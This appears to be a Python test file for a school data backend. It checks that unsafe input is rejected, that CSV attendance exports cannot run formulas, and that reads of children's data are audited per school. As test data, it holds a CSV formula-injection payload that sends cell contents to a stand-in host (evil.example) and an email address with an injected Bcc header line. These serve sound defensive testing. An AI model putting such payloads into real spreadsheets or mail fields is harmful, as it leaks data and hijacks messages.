"""Silent data problems refused, exports that cannot run formulas, and an audit of every read of children's data
written to the school whose data it is (a refused or missing read writes nothing)."""

from __future__ import annotations

import csv
import io

from tests.backend.school.conftest import World
from tests.backend.school.test_privacy import _store

SCHOOL = "/api/v1/schools/school-1"


MISLEADING = [
    ("/pupils", {"pupil_id": "n1", "name": "Ti\u0000mur", "class_id": "5a"}, "name"),
    ("/pupils", {"pupil_id": "n2", "name": "\u202eruмiT", "class_id": "5a"}, "name"),
    ("/pupils", {"pupil_id": "n3", "name": " \t ", "class_id": "5a"}, "name"),
    ("/classes", {"class_id": "c9", "name": "5\nB", "start_time": "08:00"}, "name"),
    (
        "/guardians",
        {"guardian_id": "g9", "name": "Aigerim", "language": "kk", "channel": "email",
         "address": "a@example.kz\r\nBcc: all@example.kz"},
        "address",
    ),
]  # fmt: skip


def test_names_and_addresses_that_mislead_or_break_lines_are_refused(world: World) -> None:
    for path, body, field in MISLEADING:
        reply = world.client.post(SCHOOL + path, json=body, headers=world.auth("admin_a"))
        assert reply.status_code == 422, (body, reply.text)
        assert field in reply.json()["detail"]
    fine = {"pupil_id": "n4", "name": "Әйгерім Нұрланқызы", "class_id": "5a"}
    assert world.client.post(f"{SCHOOL}/pupils", json=fine, headers=world.auth("admin_a")).status_code == 201


def test_month_and_day_out_of_range_are_422_and_csv_cells_cannot_run_formulas(world: World) -> None:
    staff = world.auth("staff_a")
    for query in ("month=0000-01", "month=2026-13", "day=2026-02-31", "day=0000-01-01"):
        reply = world.client.get(f"{SCHOOL}/exports/attendance.csv?{query}", headers=staff)
        assert reply.status_code == 422, (query, reply.text)
        assert reply.headers["content-type"].startswith("application/problem+json")
    assert world.client.get(f"{SCHOOL}/attendance?day=2026-02-30", headers=staff).status_code == 422
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    body = {"pupil_id": "f1", "name": evil, "class_id": "5a"}
    assert world.client.post(f"{SCHOOL}/pupils", json=body, headers=world.auth("admin_a")).status_code == 201
    for query in ("day=2026-09-01", "month=2026-09"):
        text = world.client.get(f"{SCHOOL}/exports/attendance.csv?{query}", headers=staff).text
        names = [row[1] for row in csv.reader(io.StringIO(text))][1:]
        assert "'" + evil in names and evil not in names
        assert all(not n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)


def _audit(world: World, school: str) -> list[tuple[object, ...]]:
    return world.rows("SELECT role, action, subject FROM audit_log WHERE school_id = ? ORDER BY audit_id", school)


def test_every_read_of_childrens_data_is_audited_in_the_right_school(world: World) -> None:
    before = {s: len(_audit(world, s)) for s in ("school-1", "school-2")}
    foreign = world.client.get(f"{SCHOOL}/pupils/qleakb1", headers=world.auth("staff_a"))
    other_path = world.client.get("/api/v1/schools/school-2/pupils/qleakb1", headers=world.auth("staff_a"))
    missing = world.client.get(f"{SCHOOL}/pupils/nobody", headers=world.auth("staff_a"))
    assert (foreign.status_code, other_path.status_code, missing.status_code) == (404, 403, 404)
    assert {s: len(_audit(world, s)) for s in before} == before, "a refused or missing read writes no audit row"
    assert world.client.get(f"{SCHOOL}/pupils/p1", headers=world.auth("staff_a")).status_code == 200
    assert world.client.get(f"{SCHOOL}/pupils", headers=world.auth("staff_a")).status_code == 200
    assert world.client.get(f"{SCHOOL}/users", headers=world.auth("admin_a")).status_code == 200
    assert world.client.get("/api/v1/parents/children", headers=world.auth("guardian_a")).status_code == 200
    _store(world, "p1", seed=3)
    pulled = world.client.get("/api/v1/gallery", headers=world.auth("device_a")).json()
    assert pulled["added"]
    again = world.client.get(f"/api/v1/gallery?since={pulled['to_version']}", headers=world.auth("device_a"))
    assert again.status_code == 200 and again.json()["added"] == []  # an empty poll is not a read of children's data
    rows = _audit(world, "school-1")[before["school-1"] :]
    assert [(r[0], r[1]) for r in rows] == [
        ("staff", "view_pupil"),
        ("staff", "view_pupils"),
        ("school_admin", "view_users"),
        ("guardian", "view_children"),
        ("device", "pull_gallery"),
    ], rows
    assert len(_audit(world, "school-2")) == before["school-2"]
